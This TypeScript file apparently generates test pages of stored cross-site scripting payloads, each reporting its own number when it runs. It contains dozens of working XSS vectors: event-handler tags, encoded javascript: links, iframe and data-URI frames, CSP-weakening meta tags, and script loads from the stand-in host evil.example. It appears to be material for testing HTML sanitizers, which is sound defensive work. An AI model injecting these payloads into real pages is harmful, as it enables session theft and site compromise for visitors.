const EVENTS =
  'click mouseover mouseenter focus blur keydown keyup input change pointerdown pointerup dblclick contextmenu wheel copy cut paste dragstart drop touchstart animationend transitionend scroll beforeinput select'.split(
    ' ',
  )
const CARRIERS = [
  (event: string, run: string) => `<div data-bait="${event}" on${event}="${run}">x</div>`,
  (event: string, run: string) => `<a data-bait="${event}" href="#x" ON${event}='${run}'>x</a>`,
  (event: string, run: string) => `<x-y data-bait="${event}" on${event}=${run}>x</x-y>`,
]

const INLINE = [
  (run: string) => `<script>${run}</script>`,
  (run: string) => `<SCRIPT>${run}</SCRIPT>`,
  (run: string) => `<script type=module>${run}</script>`,
  (run: string) => `<script type="text/javascript" async>${run}</script>`,
  (run: string) => `<script nonce="">${run}</script>`,
  (run: string) => `<script nonce="abc">${run}</script>`,
  (run: string) => `<script defer integrity="sha256-x">${run}</script>`,
  (run: string) => `</script><script>${run}</script>`,
  (run: string) => `"'></title></style></textarea><script>${run}</script>`,
  (run: string) => `<svg><script>${run}</script></svg>`,
  (run: string) => `<svg><script type="text/ecmascript">${run}</script></svg>`,
  (run: string) => `<math><mtext><script>${run}</script></mtext></math>`,
  (run: string) => `<div><template shadowrootmode="open"><script>${run}</script></template></div>`,
  (run: string) => `<table><script>${run}</script></table>`,
  (run: string) => `<select><option><script>${run}</script></select>`,
  (run: string) => `<svg><desc><script>${run}</script></desc></svg>`,
  (run: string) => `<script language=javascript>${run}</script>`,
  (run: string) => `<script type=" text/javascript">/*<!--*/${run}//--></script>`,
  (run: string) => `<svg><foreignObject><script>${run}</script></foreignObject></svg>`,
]

const SOURCES = [
  (n: number) => `<script src="https://evil.example/${n}.js"></script>`,
  (n: number) => `<script src="//evil.example/${n}.js"></script>`,
  (n: number) => `<script type=module src="https://evil.example/${n}.js"></script>`,
  (n: number) => `<script async crossorigin src="https://evil.example/${n}.js"></script>`,
  (n: number) => `<svg><script href="https://evil.example/${n}.js"></script></svg>`,
  (n: number) => `<script src="data:text/javascript,ran(${n})"></script>`,
  (n: number) => `<script src="data:text/javascript;base64,${btoa(`ran(${n})`)}"></script>`,
  (n: number) => `<script type=module src="data:text/javascript,ran(${n})"></script>`,
  (n: number) => `<svg><script xlink:href="data:text/javascript,ran(${n})"></script></svg>`,
  (n: number) => `<script type=module>import "https://evil.example/${n}.js"</script>`,
  (n: number) => `<script src="https:evil.example/${n}.js"></script>`,
]

const BY_THEMSELVES = [
  (run: string) => `<img src=x: onerror="${run}">`,
  (run: string) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="${run}">`,
  (run: string) => `<svg onload="${run}"></svg>`,
  (run: string) => `<svg><image href="x:" onerror="${run}"/></svg>`,
  (run: string) => `<video><source src="x:" onerror="${run}"></video>`,
  (run: string) => `<video src="x:" onerror="${run}"></video>`,
  (run: string) => `<audio src="x:" onerror="${run}"></audio>`,
  (run: string) => `<iframe onload="${run}"></iframe>`,
  (run: string) => `<iframe src="about:blank" onload="${run}"></iframe>`,
  (run: string) => `<object data="x:" onerror="${run}"></object>`,
  (run: string) => `<style onload="${run}"></style>`,
  (run: string) => `<link rel=stylesheet href="x:" onerror="${run}">`,
  (run: string) => `<details open ontoggle="${run}">x</details>`,
  (run: string) => `<input type=image src="x:" onerror="${run}">`,
  (run: string) => `<picture><source srcset="x:"><img src="x:" onerror="${run}"></picture>`,
  (run: string) => `<svg><animate onbegin="${run}" attributeName=x dur=1s></animate></svg>`,
  (run: string) => `<svg><set onbegin="${run}" attributeName=x dur=1s></set></svg>`,
  (run: string) => `<marquee onstart="${run}">x</marquee>`,
]

const LINKS = [
  (run: string) => `<a data-bait="click" href="javascript:${run}">x</a>`,
  (run: string) => `<a data-bait="click" href="JaVaScRiPt:${run}">x</a>`,
  (run: string) => `<a data-bait="click" href="java&Tab;script:${run}">x</a>`,
  (run: string) => `<a data-bait="click" href="&#1;javascript:${run}">x</a>`,
  (run: string) => `<a data-bait="click" href="&#106;avascript:${run}">x</a>`,
  (run: string) => `<a data-bait="click" href="javascript://%0a${run}">x</a>`,
  (run: string) => `<svg><a data-bait="click" href="javascript:${run}"><text y=9>x</text></a></svg>`,
  (run: string) => `<svg><a data-bait="click" xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
  (run: string) => `<form action="javascript:${run}"><button data-bait="click">x</button></form>`,
  (run: string) => `<form><button data-bait="click" formaction="javascript:${run}">x</button></form>`,
  (run: string) => `<form><input type=submit data-bait="click" formaction="javascript:${run}"></form>`,
  (run: string) => `<form action="javascript:${run}"><input type=image data-bait="click" src="x:"></form>`,
]

const FRAMES = [
  (run: string) => `<iframe src="javascript:${run}"></iframe>`,
  (run: string) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  (run: string) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run: string) => `<iframe srcdoc="<svg onload='${run}'>"></iframe>`,
  (run: string) => `<iframe srcdoc="<img src=x: onerror=${run}>"></iframe>`,
  (run: string) => `<iframe src="data:text/html,<script>${run}</script>"></iframe>`,
  (run: string) =>
    `<iframe src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>"></iframe>`,
  (run: string) => `<object data="data:text/html,<script>${run}</script>"></object>`,
  (run: string) => `<embed src="data:text/html,<script>${run}</script>">`,
  (run: string) => `<object type="text/html" data="data:text/html;base64,${btoa(`<script>${run}</script>`)}"></object>`,
  (run: string) =>
    `<embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>">`,
]

/** What ends a page's own order: kept to the end of a page, one at a time. */
const GREEDY = [
  (n: number) => `<base href="https://evil.example/"><script src="${n}.js"></script>`,
  (n: number) =>
    `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><script>ran(${n})</script>`,
  (n: number) => `<script src="data:text/javascript,ran(${n})" x="`,
  (n: number) => `<script src="data:text/javascript,ran(${n})" x='`,
  (n: number) => `<script>ran(${n})//`,
  (n: number) => `<textarea></textarea><script src="data:text/javascript,ran(${n})" x=`,
  (n: number) =>
    `<link rel=preload as=script href="https://evil.example/${n}.js"><script src="https://evil.example/${n}.js"></script>`,
]

/** Scripts as an attacker stores them, each of which says its own number when it runs; in groups that one page can carry. */
export function payloadPages(): { pages: string[]; count: number } {
  let n = 0
  const run = () => `ran(${++n})`
  const events = EVENTS.flatMap((event) => CARRIERS.map((carry) => carry(event, run())))
  const plain = [INLINE, BY_THEMSELVES, LINKS, FRAMES].flat().map((write) => write(run()))
  const sources = SOURCES.map((write) => write(++n))
  const greedy = GREEDY.map((write) => write(++n))
  const calm = [...plain, ...sources]
  const groups = Array.from({ length: Math.ceil(calm.length / 16) }, (_, at) => calm.slice(at * 16, at * 16 + 16))
  return { pages: [events.join('\n'), ...groups.map((group) => group.join('\n')), ...greedy], count: n }
}
